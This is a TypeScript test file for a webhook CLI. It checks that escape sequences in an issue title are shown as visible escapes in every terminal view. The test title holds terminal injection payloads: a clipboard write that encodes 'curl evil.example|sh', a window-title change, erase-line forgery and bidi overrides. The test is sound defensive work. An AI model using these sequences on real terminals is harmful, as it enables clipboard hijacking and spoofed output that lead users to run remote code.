/**
 * Payload text never drives the terminal (issue: untrusted text stays data): an issue title
 * holding escape sequences (window title, OSC 52 clipboard write, erase-line), CR,
 * backspace, a one-character C1 CSI and bidi overrides goes through serve into the prompt,
 * the reply and the request log's filter detail; every CLI view of them prints those
 * characters as visible escapes, and `--json` still carries the exact text.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { signHub } from '../../functions/core/auth/signatures';
import { buildCli, runCli } from '../support/cli';
import { eventually, startServe, stopServe, type Serve } from '../support/serve';

beforeAll(() => buildCli(), 60_000);

const SECRET = 'gh-terminal-secret';
const TITLE = '\u202eevil\u202c \u009b7m \u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007 \u001b]0;PWNED\u0007 \u001b[2K\u001b[GFORGED \u001b[31mRED\u001b[0m\r\r\b\b';
/** What a terminal acts on: every C0 control but line feed and tab, DEL, C1, bidi controls, line/paragraph separators. */
const ACTIVE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

let dir: string;
let serve: Serve;
const hk = (...args: string[]) => runCli(['--config-dir', dir, ...args]);

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'hookagent-terminal-'));
  writeFileSync(join(dir, 'config.yaml'), 'webhooks: { github: { secret: ${GH_SECRET} } }\n');
  writeFileSync(join(dir, '.env'), `GH_SECRET=${SECRET}\n`);
  expect((await hk('webhook', 'subscribe', 'triage', '--events', 'issues', '--prompt', 'Triage: {issue.title}')).code).toBe(0);
  // Filtered out: the request log's WHY quotes the title in the filter's detail.
  expect((await hk('webhook', 'subscribe', 'bugs', '--events', 'issues', '--filter', 'issue.title == "bug"')).code).toBe(0);
  serve = await startServe(dir, {});
}, 60_000);

afterAll(async () => {
  if (serve) await stopServe(serve);
});

test('no CLI view of an event writes its control characters raw; --json keeps the exact text', async () => {
  const body = JSON.stringify({ action: 'opened', issue: { number: 7, title: TITLE, body: 'x' }, repository: { full_name: 'octo/app' } });
  const accepted = await fetch(`${serve.url}/webhooks/github`, {
    method: 'POST', body,
    headers: { 'content-type': 'application/json', 'x-github-event': 'issues', 'x-github-delivery': 'term-1', 'x-hub-signature-256': signHub(body, SECRET) },
  });
  expect(accepted.status).toBe(202);
  let eventId = '';
  await eventually(async () => {
    const listed = JSON.parse((await hk('webhook', 'events', 'triage', '--json')).stdout) as Array<{ event_id: string; status: string }>;
    eventId = listed[0]?.event_id ?? '';
    return listed[0]?.status === 'delivered';
  }, 'the event delivered');

  const json = await hk('webhook', 'events', 'triage', '--json');
  expect(json.stdout).not.toMatch(ACTIVE);
  expect((JSON.parse(json.stdout) as Array<{ reply: string }>)[0]?.reply).toBe(`Triage: ${TITLE}`);

  const views = await Promise.all([
    hk('webhook', 'events', 'triage'),
    hk('webhook', 'event', eventId),
    hk('webhook', 'requests'),
    hk('webhook', 'requests', '--json'),
  ]);
  for (const view of views) {
    expect(view.code).toBe(0);
    expect(view.stdout).not.toMatch(ACTIVE);
  }
  const [list, detail, requests] = views;
  expect(detail!.stdout).toContain('\\u001b]52;c;');
  expect(detail!.stdout).toContain('\\u202eevil\\u202c');
  expect(list!.stdout).toContain('\\u009b7m');
  expect(requests!.stdout).toContain('bugs');
}, 60_000);
